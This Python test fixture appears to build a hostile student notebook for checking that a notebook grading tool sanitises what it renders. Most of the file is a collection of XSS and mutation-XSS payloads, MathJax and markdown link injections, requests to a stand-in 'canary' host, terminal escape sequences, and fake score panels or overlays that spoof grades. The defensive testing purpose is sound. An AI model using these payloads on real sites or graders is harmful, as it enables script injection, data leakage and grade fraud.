"""What a student may write to act on whoever reads it: in text, outputs, code and errors.

Whatever of it runs sets `window.marked`, or asks something of a place named "canary".
"""

import base64
from typing import Any

from broken_notebooks import Notebook, code

CANARY = "http://127.0.0.1:9/canary"
FAR = "https://canary.example/canary"
MARK = "window.marked=1"
COVER = "position:fixed;top:0;left:0;width:100vw;height:100vh;background:white;z-index:9999"
KEPT = "An honest **sentence** with $h_t = \\tanh(a_t)$."
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJg"
    "gg=="
)
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{MARK}\"><script>{MARK}</script></svg>"
SVG_64 = base64.b64encode(SVG.encode()).decode()

HTML = [
    f"<script>{MARK};alert(1);document.title='PWNED';fetch('{CANARY}/fetch')</script>",
    f"<script src={CANARY}/script></script>",
    f'<img src=x onerror="{MARK}">',
    f'<b onmouseover="{MARK}" onclick="{MARK}">press</b>',
    SVG,
    f"<svg><a xlink:href=\"javascript:{MARK}\"><text y=9>press</text></a></svg>",
    f"<svg><use href='data:image/svg+xml;base64,{SVG_64}#x'/></svg>",
    f'<svg></p><style><a id="</style><img src=x onerror={MARK}>">',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
    f"onerror={MARK}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={MARK}>",
    f"<noscript><p title=\"</noscript><img src=x onerror={MARK}>\">",
    f'<iframe src="javascript:parent.{MARK}"></iframe>',
    f'<iframe srcdoc="<script>parent.{MARK}</script>"></iframe>',
    f'<object data="data:text/html,<script>{MARK}</script>"></object><embed src={CANARY}/embed>',
    f"<meta http-equiv=refresh content='0;url={CANARY}/refresh'>",
    f"<base href={CANARY}/base/>",
    f"<link rel=stylesheet href={CANARY}/style><link rel=prefetch href={CANARY}/prefetch>",
    f"<style>@import '{CANARY}/import'; .score {{display: none}} "
    f"* {{background: url({CANARY}/background)}}</style>",
    f'<div style="{COVER}">You see nothing else.</div>',
    f"<div style='background:url({CANARY}/style)'>x</div>",
    f"<table background={CANARY}/table><tr><td background={CANARY}/cell>x</table>",
    f'<form action={CANARY}/form><input autofocus onfocus="{MARK}"><button>Go</button></form>',
    "<input class='score tabbable' id=two-steps value=10 type=number>",
    "<button class='btn full-credit'>Full credit</button><textarea>",
    f'<details open ontoggle="{MARK}"><summary>x</summary></details>',
    f'<video src={CANARY}/video onerror="{MARK}" autoplay></video><audio src={CANARY}/audio>',
    f"<picture><source srcset='{CANARY}/source'><img srcset='{CANARY}/srcset 1x'></picture>",
    f"<input type=image src={CANARY}/input>",
    f'<body onload="{MARK}" background={CANARY}/body>',
    f'<marquee onstart="{MARK}">x</marquee>',
    f"<a href=\"javascript:{MARK}\">press</a><a href=\"java\tscript:{MARK}\">press</a>",
    f"<a href='data:text/html,<script>{MARK}</script>'>press</a>",
    f"<a href={FAR} ping={CANARY}/ping target=opener rel=opener>press</a>",
    "<a href=evil.html>press</a><a href='/formgrader/?path=submitted/mallory/bptt'>press</a>",
    f"<a href='//localhost:8888/formgrader/manage_students/%3Cscript%3E{CANARY}'>press</a>",
    "<img src='/formgrader/?path=submitted/mallory/bptt'><img src=/logout>",
    f"<img src={CANARY}/picture><img src={FAR}/picture>",
    "<img name=getElementById><img name=querySelectorAll><a id=formgrader name=grades></a>",
    "<div class='panel nbgrader_cell'><div class=panel-heading>Score: 10.0 / 10.0</div></div>",
    "</div></div></div></div><h4>bptt (Score: 10.0 / 10.0)</h4>",
    "<font color=white><font size=7>",
    "<!--",
    "<plaintext>",
]  # fmt: skip

BOX = (
    "<div class='panel nbgrader_cell'><div class=panel-heading id=shapes>"
    "<a href=evil.html>press</a><span class=score>10</span></div></div>"
)
"""Looks like the box of a grade cell, and takes its place."""

FORMULAS = [
    f"$\\href{{javascript:{MARK}}}{{press}}$",
    f"$\\href{{{CANARY}/href}}{{press}}$",
    "$\\require{evil}\\unicode{x41}$",
    f"$\\style{{{COVER};background:url({CANARY}/tex)}}{{x}}$",
    f"$\\bbox[{COVER}]{{x}}$",
    f"$\\mmlToken{{mi}}[href='javascript:{MARK}' class=score id=two-steps]{{press}}$",
    "$\\cssId{two-steps}{x}\\class{score}{y}$",
    "$\\smash{\\raise 40em{\\color{white}{\\Rule{200em}{90em}{0em}}}}$",
    "$\\llap{\\Rule{200em}{9em}{9em}}\\kern-99em\\Rule{200em}{9em}{9em}$",
    f"$\\color{{red;background:url({CANARY}/colour)}}{{x}}$",
    "$\\def\\tanh{\\text{10 points}}$",
]

MARKDOWN = [
    *HTML,
    *FORMULAS,
    *(f"<div>{formula}</div>" for formula in FORMULAS),
    f"<div>$\\h&#114;ef{{javascript:{MARK}}}{{press}}$</div>",
    f"[press](javascript:{MARK})",
    f"[press](files/javascript:{MARK})",
    f"<a href=\"files/javascript:{MARK}\">press</a>",
    "[press][x]\n\n[x]: javascript:window.marked=1",
    "<javascript:window.marked=1>",
    "[press](evil.html) [press](?path=submitted/mallory/bptt)",
    f"![]({CANARY}/image) ![]({FAR}/image)",
    "![](/formgrader/?path=submitted/mallory/bptt)",
    "![](attachment:evil.svg)",
    f"```mermaid\nflowchart LR\nA[\"<img src=x onerror={MARK}>\"] --> B\nclick A href \"javascript:{MARK}\"\n```",  # noqa: E501
    "# shapes",
    "# two-steps\n\n## two-steps-comment",
    "gradients_extra_credit\n===",
    f"``` {MARK}\"><script>{MARK}</script>\nx\n```",
    f"| a |\n|---|\n| <img src=x onerror={MARK}> |",
    f"~~<script>{MARK}</script>~~ **<svg onload={MARK}>**",
]  # fmt: skip


def outputs() -> list[dict[str, Any]]:
    bundles: list[dict[str, Any]] = [{"text/html": text, "text/plain": "x"} for text in HTML]
    bundles += [{"text/html": f"<p>{text}</p>"} for text in FORMULAS]
    bundles += [
        {"text/markdown": f"<script>{MARK}</script>"},
        {"text/latex": FORMULAS[0]},
        {"image/svg+xml": SVG},
        {"application/javascript": MARK, "application/ecmascript": MARK},
        {"application/vnd.jupyter.widget-view+json": {"model_id": f"<script>{MARK}</script>"}},
        {"application/vdom.v1+json": {"tagName": "script", "children": [MARK]}},
        {"application/pdf": "JVBERi0=", "text/vnd.mermaid": f"A[<img src=x onerror={MARK}>]"},
        {"application/vnd.vega.v5+json": {"data": [{"url": f"{CANARY}/vega"}]}},
        {"image/png": f'{PIXEL}"><script>{MARK}</script>'},
        {"image/png": PIXEL, "text/html": "<i>KEPT</i>"},
    ]
    made: list[dict[str, Any]] = [
        {"output_type": "display_data", "data": data, "metadata": {
            "text/html": {"isolated": True}, "image/png": {"alt": f'"><script>{MARK}</script>'},
        }} for data in bundles
    ]  # fmt: skip
    text = f"\x1b[31m<script>{MARK}</script>\x1b]8;;javascript:{MARK}\x07press\x1b]8;;\x07\x1b[0m"
    made += [{"output_type": "stream", "name": name, "text": text} for name in ("stdout", "stderr")]
    made.append({"output_type": "error", "ename": text, "evalue": text, "traceback": [text]})
    return made


SAYS = f"</p><script>{MARK}</script> {FORMULAS[0]} \x1b]0;PWNED\x07 [red]x[/red] [/] \u202e\x9b31m"
"""What hostile code says in errors and answers."""
RAISES = f"raise ValueError({SAYS!r})"
ANSWERS = f"""
class Odd(str):
    def __repr__(self): return {SAYS!r}
def rnn_forward(*given): return Odd({SAYS!r})
def bptt(*given): raise TypeError({SAYS!r})
"""


def make_hostile(notebook: Notebook) -> Notebook:
    """`notebook` with all of it, and between it what should stay as it is."""
    attachments = {"evil.svg": {"image/svg+xml": SVG_64}}
    texts = [text for hostile in MARKDOWN for text in (hostile, KEPT)]
    notebook["cells"] += [
        {"cell_type": "markdown", "source": text, "metadata": {}, "attachments": attachments}
        for text in texts
    ]
    # Not more than a cell may have.
    many = outputs()
    notebook["cells"] += [code("show()", outputs=many[at : at + 50]) for at in range(0, 100, 50)]
    notebook["cells"] += [code(f"</pre></div><script>{MARK}</script>"), code(RAISES), code(ANSWERS)]
    notebook["cells"] += [
        {"cell_type": "raw", "source": text, "metadata": {"raw_mimetype": kind}}
        for text in [*HTML, *FORMULAS, BOX] for kind in ("", "text/html")
    ]  # fmt: skip
    for cell in notebook["cells"]:
        cell["metadata"]["tags"] = [f'"><script>{MARK}</script>']
    widgets = {"application/vnd.jupyter.widget-state+json": {"state": f"</script>{HTML[0]}"}}
    notebook["metadata"] |= {"title": HTML[0], "widgets": widgets}
    notebook["metadata"]["language_info"] = {"name": HTML[0], "pygments_lexer": HTML[0]}
    return notebook
